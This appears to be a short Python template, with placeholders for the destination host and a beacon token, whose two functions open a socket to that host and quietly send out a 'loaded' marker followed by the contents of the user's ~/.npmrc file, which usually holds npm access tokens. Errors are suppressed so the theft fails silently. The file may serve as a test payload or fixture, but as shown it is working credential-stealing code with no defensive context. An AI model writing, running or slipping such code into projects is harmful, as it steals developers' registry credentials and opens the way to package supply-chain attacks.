import contextlib
import socket
from pathlib import Path


def post(loot):
    with contextlib.suppress(OSError), socket.create_connection(("@SINK@", 8080), 3) as out:
        out.sendall(loot)


def act():
    post(b"loaded-@TOKEN@")
    with contextlib.suppress(OSError):
        post(Path.home().joinpath(".npmrc").read_bytes())
